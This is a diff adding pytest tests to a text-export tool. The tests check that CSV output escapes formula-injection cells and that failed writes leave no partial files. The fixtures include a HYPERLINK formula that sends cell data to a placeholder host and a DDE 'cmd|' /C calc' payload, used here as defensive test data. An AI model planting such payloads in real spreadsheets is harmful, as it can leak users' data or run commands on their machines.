@@ -12,6 +12,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import random
+import shlex
 import shutil
 import subprocess
 from pathlib import Path
@@ -119,3 +122,161 @@ def test_visible_escapes_controls_and_bidi_only() -> None:
     assert visible("line\nnext", keep="\n") == "line\nnext"
     assert visible("مي\u200cشود — café “quoted”") == "مي\u200cشود — café “quoted”"  # ZWNJ is writing
     assert visible("back\\slash") == "back\\slash"
+
+
+# -- CSV formula injection (OWASP: a cell starting with = + - @ tab or CR gets a leading ') ----------
+FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?"&A1,"Click") the harbour board said on Monday it would reopen the quay.'
+FORMULA_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture(scope="module")
+def formula_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("formula")
+    (root / "a.jsonl").write_text(
+        json.dumps({"id": "f1", "title": FORMULA_TITLE, "text": FORMULA_TEXT}) + "\n", encoding="utf-8"
+    )
+    db = root / "s.duckdb"
+    assert refrain("ingest", str(root / "a.jsonl"), "--db", str(db)).returncode == 0
+    return db
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+def test_export_csv_cells_cannot_run_as_formulas(formula_store: Path, tmp_path: Path) -> None:
+    result = refrain("export", "--db", str(formula_store), "-f", "csv", "-o", str(tmp_path / "out"))
+    assert result.returncode == 0, result.stderr
+    (doc,) = _csv_rows(tmp_path / "out" / "documents.csv")
+    assert doc["text"] == "'" + FORMULA_TEXT
+    assert doc["title"] == "'" + FORMULA_TITLE
+    assert doc["seq"] == "0" and doc["idx"] == "0"  # numbers stay numbers
+
+
+def test_export_csv_formulas_kept_when_asked(formula_store: Path, tmp_path: Path) -> None:
+    result = refrain(
+        "export", "--db", str(formula_store), "-f", "csv", "-o", str(tmp_path / "out"), "--raw-csv"
+    )
+    assert result.returncode == 0, result.stderr
+    (doc,) = _csv_rows(tmp_path / "out" / "documents.csv")
+    assert doc["text"] == FORMULA_TEXT
+
+
+def test_format_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
+    (tmp_path / "a.txt").write_text(FORMULA_TEXT, encoding="utf-8")
+    safe = list(csv.DictReader(io.StringIO(refrain("extract", str(tmp_path / "a.txt"), "-f", "csv").stdout)))
+    assert safe[0]["text"] == "'" + FORMULA_TEXT and safe[0]["start"] == "0"
+    raw = refrain("extract", str(tmp_path / "a.txt"), "-f", "csv", "--raw-csv").stdout
+    assert list(csv.DictReader(io.StringIO(raw)))[0]["text"] == FORMULA_TEXT
+
+
+def test_formula_rule_cell_by_cell() -> None:
+    from refrain.output import write_rows
+
+    out = io.StringIO()
+    cells = {"n": -5, "x": 2.5, "s": "-5", "t": "\tcmd", "r": "\rcmd", "p": "+1", "ok": "plain = fine"}
+    write_rows([cells], "csv", out=out)
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row == {
+        "n": "-5",
+        "x": "2.5",
+        "s": "'-5",
+        "t": "'\tcmd",
+        "r": "'\rcmd",
+        "p": "'+1",
+        "ok": "plain = fine",
+    }
+
+
+# -- write failures: one line, exit 1, no partial file --------------------------------------------------
+def _files(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []
+
+
+def test_export_onto_existing_files_is_refused_unless_forced(formula_store: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "documents.jsonl").write_text("mine\n", encoding="utf-8")
+    refused = refrain("export", "--db", str(formula_store), "-o", str(out))
+    assert refused.returncode == 1
+    (line,) = error_lines(refused.stderr)
+    assert str(out / "documents.jsonl") in line and "--force" in line
+    assert "Traceback" not in refused.stderr
+    assert _files(out) == ["documents.jsonl"] and (out / "documents.jsonl").read_text() == "mine\n"
+    forced = refrain("export", "--db", str(formula_store), "-o", str(out), "--force")
+    assert forced.returncode == 0, forced.stderr
+    assert (out / "documents.jsonl").read_text() != "mine\n"
+
+
+def test_report_onto_an_existing_file_is_refused_unless_forced(formula_store: Path, tmp_path: Path) -> None:
+    out = tmp_path / "r.html"
+    out.write_text("mine", encoding="utf-8")
+    refused = refrain("report", "--db", str(formula_store), "-o", str(out))
+    assert refused.returncode == 1 and len(error_lines(refused.stderr)) == 1, refused.stderr
+    assert out.read_text() == "mine"
+    assert refrain("report", "--db", str(formula_store), "-o", str(out), "--force").returncode == 0
+    assert "<html" in out.read_text()
+
+
+def test_an_unwritable_folder_is_one_line(formula_store: Path, tmp_path: Path) -> None:
+    if os.geteuid() == 0:
+        target = Path("/sys")  # even root cannot create files there
+    else:
+        target = tmp_path / "locked"
+        target.mkdir(mode=0o500)
+    for command in (["export", "-o", str(target)], ["report", "-o", str(target / "r.html")]):
+        result = refrain(*command, "--db", str(formula_store))
+        assert result.returncode == 1, result.stderr
+        (line,) = error_lines(result.stderr)
+        assert str(target) in line and "Traceback" not in result.stderr, result.stderr
+        assert len(result.stderr.splitlines()) == 1
+
+
+def _limited(limit_kb: int, *args: str) -> subprocess.CompletedProcess[str]:
+    """``refrain ARGS`` under ``ulimit -f`` (a file-size limit: writes past it fail with EFBIG)."""
+    command = " ".join(["ulimit", "-f", str(limit_kb), ";", *(shlex.quote(a) for a in [*REFRAIN, *args])])
+    return subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=300)
+
+
+@pytest.fixture(scope="module")
+def big_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("big")
+    words = ARTICLE.split()
+    rng = random.Random(18)  # varied text: compressed formats (Parquet) stay big too
+    texts = [" ".join(rng.choice(words) + str(rng.randrange(1000)) for _ in range(800)) for _ in range(60)]
+    lines = [json.dumps({"id": f"b{i}", "text": text}) for i, text in enumerate(texts)]  # ~400 KB
+    (root / "a.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    db = root / "s.duckdb"
+    assert refrain("ingest", str(root / "a.jsonl"), "--db", str(db)).returncode == 0
+    return db
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
+def test_export_cut_by_a_file_size_limit_leaves_no_partial_file(
+    big_store: Path, tmp_path: Path, fmt: str
+) -> None:
+    out = tmp_path / "out"
+    result = _limited(64, "export", "--db", str(big_store), "-f", fmt, "-o", str(out))
+    assert result.returncode == 1, result.stderr
+    (line,) = error_lines(result.stderr)
+    assert str(out) in line and "Traceback" not in result.stderr, result.stderr
+    assert not any(name.startswith("documents") for name in _files(out)), _files(out)
+    assert not any(".tmp" in name for name in _files(out))
+
+
+def test_report_cut_by_a_file_size_limit_leaves_no_file(big_store: Path, tmp_path: Path) -> None:
+    out = tmp_path / "r.html"
+    result = _limited(2, "report", "--db", str(big_store), "-o", str(out))
+    assert result.returncode == 1 and len(error_lines(result.stderr)) == 1, result.stderr
+    assert "Traceback" not in result.stderr
+    assert _files(tmp_path) == []
+
+
+def test_a_store_write_past_the_file_size_limit_is_one_line(tmp_path: Path) -> None:
+    lines = [json.dumps({"id": f"c{i}", "text": f"Story {i}: " + ARTICLE * 40}) for i in range(200)]
+    (tmp_path / "a.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    db = tmp_path / "s.duckdb"
+    result = _limited(256, "ingest", str(tmp_path / "a.jsonl"), "--db", str(db))
+    assert result.returncode == 1, result.stderr
+    (line,) = error_lines(result.stderr)
+    assert str(db) in line and "Traceback" not in result.stderr, result.stderr
